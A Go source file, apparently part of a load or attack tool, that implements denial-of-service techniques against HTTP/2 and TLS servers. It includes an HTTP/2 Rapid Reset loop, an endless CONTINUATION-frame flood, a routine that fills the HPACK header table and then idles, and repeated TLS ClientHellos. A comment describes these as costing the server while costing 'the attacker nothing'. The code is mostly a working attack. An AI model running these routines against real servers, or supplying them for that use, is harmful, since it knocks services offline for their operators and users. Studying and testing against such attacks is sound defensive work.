package main

import (
	"bytes"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func overTLS(addr, host, protocol string, then func(net.Conn)) {
	c := dial(addr)
	if c == nil {
		return
	}
	defer c.Close()
	tc := tls.Client(c, visitor(host, protocol))
	if tc.Handshake() == nil && then != nil {
		then(tc)
	}
}

func visitor(host, protocol string) *tls.Config {
	return &tls.Config{ServerName: host, InsecureSkipVerify: true, NextProtos: []string{protocol}, CurvePreferences: []tls.CurveID{tls.X25519}}
}

// greet says hello and leaves with the answer. It always says the same, so
// that it costs the server a handshake and the attacker nothing.
func greet(addr, host string) {
	c := dial(addr)
	if c == nil {
		return
	}
	defer c.Close()
	if _, err := c.Write(hello(host)); err == nil {
		_, _ = c.Read(make([]byte, 1))
	}
}

var (
	helloOnce  sync.Once
	helloBytes []byte
)

// hello gives what a client says first.
func hello(host string) []byte {
	helloOnce.Do(func() {
		var said listened
		_ = tls.Client(&said, visitor(host, "http/1.1")).Handshake() // ends when nobody answers
		helloBytes = said.Bytes()
	})
	return helloBytes
}

// listened is a connection to nobody.
type listened struct {
	net.Conn
	bytes.Buffer
}

func (l *listened) Write(b []byte) (int, error)      { return l.Buffer.Write(b) }
func (l *listened) Read([]byte) (int, error)         { return 0, errors.New("nobody is there") }
func (l *listened) Close() error                     { return nil }
func (l *listened) SetWriteDeadline(time.Time) error { return nil }

// framed introduces an HTTP/2 client and gives a header block.
func framed(c net.Conn) (*http2.Framer, []byte) {
	go func() { _, _ = io.Copy(io.Discard, c) }()
	_, _ = io.WriteString(c, http2.ClientPreface) // what follows fails if this does
	f := http2.NewFramer(c, nil)
	_ = f.WriteSettings()
	return f, getBlock()
}

// getBlock is the header block of a GET, with more fields.
func getBlock(more ...[2]string) []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for _, h := range append([][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "host-0.example"}, {":path", "/"}}, more...) {
		_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	return block.Bytes()
}

// fillTable has the server keep as much of a header block as it may, and is idle.
func fillTable(c net.Conn) {
	_, _ = io.WriteString(c, http2.ClientPreface) // what follows fails if this does
	f := http2.NewFramer(c, nil)
	_ = f.WriteSettings()
	_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: getBlock([2]string{"x-fill", strings.Repeat("a", 3900)}), EndHeaders: true, EndStream: true})
	idle(c)
}

func rapidReset(c net.Conn) {
	f, block := framed(c)
	for id := uint32(1); ; id += 2 {
		if f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true}) != nil ||
			f.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return
		}
	}
}

func continuations(c net.Conn) {
	f, block := framed(c)
	if f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block}) != nil {
		return
	}
	for f.WriteContinuation(1, false, nil) == nil {
	}
}
